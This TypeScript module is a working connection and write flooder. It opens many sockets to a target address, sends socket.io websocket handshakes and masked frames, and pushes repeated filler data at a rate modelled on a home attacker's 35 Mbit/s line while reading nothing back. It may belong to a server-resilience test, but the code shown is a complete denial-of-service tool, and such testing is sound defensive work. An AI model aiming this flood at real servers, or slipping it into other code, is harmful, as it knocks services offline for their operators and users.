import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

/** Speed of the line of an attacker at home. */
const MBIT_PER_SECOND = 35
const CHUNK_BYTES = 64 * 1024
const TICK_MS = 10
const CHUNKS_PER_TICK = (MBIT_PER_SECOND * 1_000_000 * TICK_MS) / 8 / 1_000 / CHUNK_BYTES
/** Connections that are opened in place of ended ones, in a second. */
const REOPENED_PER_SECOND = 20

export interface Flood {
  /** Connections held open at a time. */
  readonly connections: number
  /** First bytes of each connection; undefined where the server refuses it right now. */
  readonly begin: () => Promise<Buffer | undefined>
  /** Bytes that are sent repeatedly after `begin`; none if empty. */
  readonly again: Buffer
}

/** As many repetitions as fit into a write. */
export const filled = (piece: Buffer | string): Buffer => {
  const bytes = Buffer.from(piece)
  const times = Math.max(1, Math.floor(CHUNK_BYTES / bytes.length))
  return Buffer.concat(Array.from({ length: times }, () => bytes))
}

/** A websocket frame of a client, masked with zeros. */
export function frameOf(data: string | Buffer, opcode = typeof data === 'string' ? 1 : 2): Buffer {
  const bytes = Buffer.from(data)
  const isShort = bytes.length < 126
  const head = isShort
    ? [0x80 | opcode, 0x80 | bytes.length]
    : [0x80 | opcode, 0x80 | 126, bytes.length >> 8, bytes.length & 255]
  return Buffer.concat([Buffer.from([...head, 0, 0, 0, 0]), bytes])
}

/** The handshake of a websocket. */
export const upgradeOf = (query = ''): Buffer =>
  Buffer.from(
    [
      `GET /socket.io/?EIO=4&transport=websocket${query} HTTP/1.1`,
      'Host: x',
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      '\r\n',
    ].join('\r\n'),
  )

export interface Flooded {
  readonly sentBytes: number
  readonly opened: number
}

/** Floods a server for some seconds over a line of 35 Mbit/s, and reads nothing. */
export async function flood(address: string, seconds: number, attack: Flood): Promise<Flooded> {
  const { hostname, port } = new URL(address)
  const sockets = new Set<Socket>()
  /** Connections whose send buffer is full. */
  const full = new WeakSet<Socket>()
  let [sentBytes, opened, opening, allowance] = [0, 0, 0, 0]

  const open = async () => {
    opening += 1
    try {
      const begin = await attack.begin()
      if (begin === undefined) return
      const socket = connect(Number(port), hostname)
      socket.pause()
      sockets.add(socket)
      opened += 1
      socket.on('error', () => undefined)
      socket.on('drain', () => full.delete(socket))
      socket.once('close', () => sockets.delete(socket))
      socket.write(begin)
    } finally {
      opening -= 1
    }
  }

  const end = performance.now() + seconds * 1_000
  let due = 0
  let last = 0
  while (performance.now() < end) {
    allowance = Math.min(allowance + (REOPENED_PER_SECOND * TICK_MS) / 1_000, attack.connections)
    const isFirst = opened < attack.connections
    while (sockets.size + opening < attack.connections && (isFirst || allowance >= 1)) {
      if (!isFirst) allowance -= 1
      void open()
      if (opening > 50) break
    }
    due = Math.min(due + CHUNKS_PER_TICK, 8)
    if (attack.again.length === 0) due = 0
    const ready = [...sockets].filter((socket) => socket.writable && !full.has(socket))
    for (; due >= 1 && ready.length > 0; due -= 1) {
      const socket = ready[last++ % ready.length]
      if (socket === undefined || full.has(socket)) continue
      sentBytes += attack.again.length
      if (!socket.write(attack.again)) full.add(socket)
    }
    await wait(TICK_MS)
  }
  for (const socket of sockets) socket.destroy()
  return { sentBytes, opened }
}
